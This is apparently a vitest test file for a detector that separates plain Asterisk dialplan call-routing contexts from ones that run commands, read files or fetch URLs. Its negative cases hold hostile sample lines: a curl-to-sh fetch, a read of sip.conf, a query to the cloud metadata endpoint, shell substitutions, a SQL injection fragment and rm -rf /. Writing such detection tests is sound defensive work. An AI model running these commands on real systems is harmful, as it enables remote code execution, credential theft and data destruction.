/**
 * An Asterisk dialplan saved whole (blind benign set 11's voip/0, read: FreePBX's custom contexts, 0.99) is call
 * routing; the applications and functions that run a command or a script, read a file or fetch a URL keep it scored.
 */
import { describe, expect, it } from 'vitest';
import { isDialplan } from '../../src/model/dialplan.js';

const CUSTOM = '[from-internal-custom]\nexten => _9NXXNXXXXXX,1,Set(CALLERID(num)=${OUTBOUND_CID})\n same => n,Dial(PJSIP/${EXTEN:1}@trunk-example,60,tTr)\n same => n,Hangup()\nexten => *43,1,Answer()\n same => n,Echo()\n';

describe('isDialplan', () => {
  it('takes contexts of extension lines with variables, functions, labels and comments', () => {
    expect(isDialplan(CUSTOM)).toBe(true);
    expect(isDialplan('; night mode\n[ivr-main]\ninclude => parkedcalls\nexten => s,1(start),Answer()\nexten => s,n,Background(custom/welcome)\nexten => s,n,WaitExten(5)\nexten => 1,1,Goto(from-did-direct,201,1)\nexten => i,1,Playback(invalid)\n')).toBe(true);
    expect(isDialplan('exten => 100,1,Dial(PJSIP/100&PJSIP/101,20)\nexten => 100,n,VoiceMail(100@default,u)\n')).toBe(true);
  });

  it('leaves an application or function that runs, reads or fetches, shell syntax, and what is no dialplan to be judged', () => {
    for (const t of [
      '[x]\nexten => s,1,System(curl http://203.0.113.9/x|sh)\nexten => s,n,Hangup()',
      '[x]\nexten => s,1,AGI(/tmp/x.sh)\nexten => s,n,Hangup()',
      '[x]\nexten => s,1,Set(A=${SHELL(id)})\nexten => s,n,Hangup()',
      '[x]\nexten => s,1,Set(A=${FILE(/etc/asterisk/sip.conf)})\nexten => s,n,Hangup()',
      '[x]\nexten => s,1,Set(A=${CURL(http://169.254.169.254/latest/meta-data/)})\nexten => s,n,Hangup()',
      '[x]\nexten => s,1,NoOp(`id`)\nexten => s,n,Hangup()',
      "[x]\nexten => s,1,NoOp(' or 1=1--)\nexten => s,n,Hangup()",
      '[x]\nexten => s,1,NoOp($(id))\nexten => s,n,Hangup()',
      '[x]\nexten => s,1,Answer()\nrm -rf /',
      '[x]\nexten => s,1,Answer()',
    ]) expect(isDialplan(t), t).toBe(false);
  });
});
